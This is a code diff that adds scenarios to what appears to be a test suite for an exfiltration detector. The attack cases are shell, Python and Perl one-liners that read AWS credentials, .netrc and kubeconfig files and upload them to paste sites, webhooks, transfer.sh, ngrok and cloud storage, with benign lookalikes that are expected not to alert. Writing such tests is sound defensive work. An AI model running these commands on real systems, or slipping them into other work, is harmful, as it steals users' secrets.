@@ -97,6 +97,35 @@ ATTACK_VARIANTS = [
         f'socat -u FILE:$HOME/.bash_history TCP:termbin.com:{SINK_PORT}',
         technique="T1567.003", hosts=("termbin.com",)),
     Scenario(
+        "documents-archive-to-file-sharing", "alert",
+        'mkdir -p $HOME/Documents && head -c 200000 /dev/urandom > $HOME/Documents/q3-report.pdf && '
+        'tar czf $HOME/d.tgz -C $HOME Documents && '
+        f'curl -sk {RESOLVE.format("transfer.sh")} -T $HOME/d.tgz https://transfer.sh:8443/d.tgz',
+        technique="T1567.002", domain="transfer.sh", uploads=True),
+    Scenario(
+        "split-credentials-in-parts-to-paste", "alert",
+        'split -b 300 $HOME/.aws/credentials $HOME/part_ && for f in $HOME/part_*; do '
+        f'curl -sk {RESOLVE.format("paste.ee")} --data-binary @$f https://paste.ee:8443/api; done',
+        technique="T1567.003", domain="paste.ee", uploads=True),
+    Scenario(
+        "wget-put-credentials-to-cloud-storage", "alert",
+        'wget -q -O /dev/null --no-check-certificate --method=PUT '
+        '--body-file=$HOME/.aws/credentials https://storage.googleapis.com:8443/b/o',
+        technique="T1567.002", domain="storage.googleapis.com", hosts=("storage.googleapis.com",),
+        uploads=True),
+    Scenario(
+        "python-http-client-kubeconfig-webhook", "alert",
+        'mkdir -p $HOME/.kube && head -c 3000 /dev/urandom | base64 > $HOME/.kube/config && '
+        "python3 -c 'import http.client, ssl, os; c = http.client.HTTPSConnection(\"webhook.site\", "
+        "8443, context=ssl._create_unverified_context()); c.request(\"POST\", \"/x\", "
+        "open(os.path.expanduser(\"~/.kube/config\")).read()); c.getresponse()'",
+        technique="T1567.004", domain="webhook.site", hosts=("webhook.site",), uploads=True),
+    Scenario(
+        "perl-staged-netrc-to-tunnel", "alert",
+        "perl -e 'open F, \"<\", $ENV{HOME} . \"/.netrc\"; print <F>' > $HOME/n.txt && "
+        f'curl -sk {RESOLVE.format("x1.ngrok.io")} -T $HOME/n.txt https://x1.ngrok.io:8443/',
+        technique="T1567", domain="x1.ngrok.io", uploads=True),
+    Scenario(
         "shadow-with-bearer-header-webhook", "alert",
         f'curl -sk {RESOLVE.format("m.pipedream.net")} -H "Authorization: Bearer {BEARER}" '
         '--data-binary @/etc/shadow https://m.pipedream.net:8443/',
@@ -127,6 +156,24 @@ BENIGN_VARIANTS = [
         f'curl -sk {RESOLVE.format("content.dropboxapi.com")} -T $HOME/big.bin '
         'https://content.dropboxapi.com:8443/2/files/upload',
         domain="content.dropboxapi.com", uploads=True),
+    Scenario(
+        # bash execs its last command: curl becomes the parent of the cat before it.
+        "token-read-to-null-then-package-upload", "silent",
+        'cat $HOME/.netrc > /dev/null; head -c 200000 /dev/urandom > $HOME/pkg.tgz; '
+        f'curl -sk {RESOLVE.format("registry.npmjs.org")} -T $HOME/pkg.tgz '
+        'https://registry.npmjs.org:8443/pkg',
+        domain="registry.npmjs.org", uploads=True),
+    Scenario(
+        "earlier-pipeline-then-webhook-post", "silent",
+        'cat $HOME/.ssh/id_ed25519 | grep -c PRIVATE; '
+        f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"ok\\"}}" '
+        'https://hooks.slack.com:8443/services/T/B/X',
+        domain="hooks.slack.com", uploads=True),
+    Scenario(
+        "large-download-from-drive", "silent",
+        f'curl -sk {RESOLVE.format("drive.google.com")} '
+        '"https://drive.google.com:8443/file?size=2000000" -o $HOME/f.bin',
+        domain="drive.google.com"),
     Scenario(
         "netrc-read-then-api-get", "silent",
         f'cat $HOME/.netrc > /dev/null; curl -sk {RESOLVE.format("gitlab.com")} '
